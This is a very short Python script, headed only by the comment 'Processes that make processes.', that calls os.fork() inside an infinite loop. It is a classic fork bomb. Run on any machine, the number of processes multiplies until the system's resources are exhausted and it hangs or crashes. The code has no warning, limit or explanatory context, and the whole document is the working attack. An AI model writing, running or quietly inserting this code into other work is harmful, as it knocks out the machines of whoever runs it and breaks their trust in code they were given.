# Processes that make processes.

import os

while True:
    os.fork()
